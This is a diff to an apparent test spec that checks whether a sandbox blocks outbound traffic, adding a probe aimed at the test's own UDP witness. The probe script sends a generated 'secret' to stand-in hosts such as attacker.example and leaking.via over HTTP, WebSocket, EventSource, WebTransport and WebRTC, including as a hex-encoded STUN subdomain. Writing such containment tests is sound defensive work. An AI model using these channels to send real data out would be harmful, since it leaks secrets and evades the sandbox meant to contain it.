@@ -4,6 +4,11 @@
 // Every probe records whether it threw and with what; the spec asserts the witnesses saw nothing.
 import { PROBE_KIT } from './kit';
 
+const PRIVATE_UDP_PORT = '__PRIVATE_UDP_PORT__';
+
+/** Fills in the port of the test's own UDP witness (harness PrivateUdpWitness). */
+export const withPrivateUdpPort = (script: string, port: number): string => script.replaceAll(PRIVATE_UDP_PORT, String(port));
+
 /** Where hostile traffic would go: witness hosts and the socket witnesses on 127.0.0.1. */
 const TARGETS = String.raw`
 const secret = 'hunter2-' + Math.random().toString(36).slice(2, 8);
@@ -11,6 +16,8 @@ const hex = [...secret].map((c) => c.charCodeAt(0).toString(16)).join('');
 const web = (path) => R('http://', 'attacker.example', '/hostile-', path, '?d=', secret);
 const tls = (path) => R('https://', 'leaking.via', '/hostile-', path, '?d=', secret);
 const ip = (path) => R('http://', '127.0.0.1:47474', '/hostile-', path);
+// The test's own UDP witness (an ephemeral port, filled in by withPrivateUdpPort), where the WebTransport control aims too.
+const privateUdp = (path) => R('https://', '127.0.0.1:', '${PRIVATE_UDP_PORT}', '/hostile-', path);
 const iceServers = [
   { urls: R('stun:', '127.0.0.1:3478') },
   { urls: R('stun:', hex, '.attacker.example:3478') },
@@ -35,6 +42,7 @@ await probe('WebSocket wss', () => new WebSocket(R('wss://', 'attacker.example',
 await probe('WebSocketStream', () => new WebSocketStream(R('ws://', 'attacker.example', '/hostile-wss-stream')));
 await probe('EventSource', () => new EventSource(web('es')));
 await probe('WebTransport (QUIC to the UDP witness)', () => new WebTransport(R('https://', '127.0.0.1:47474', '/hostile-wt')));
+await probe("WebTransport (QUIC to this test's own UDP witness)", () => new WebTransport(privateUdp('wt')));
 await probe('RTCPeerConnection STUN/TURN', () => rtc(RTCPeerConnection));
 await probe('webkitRTCPeerConnection', () => rtc(webkitRTCPeerConnection));
 await probe('RTC* constructors left', () => Object.getOwnPropertyNames(globalThis).filter((n) => /RTC/.test(n) && typeof globalThis[n] === 'function').join(',') || 'none');
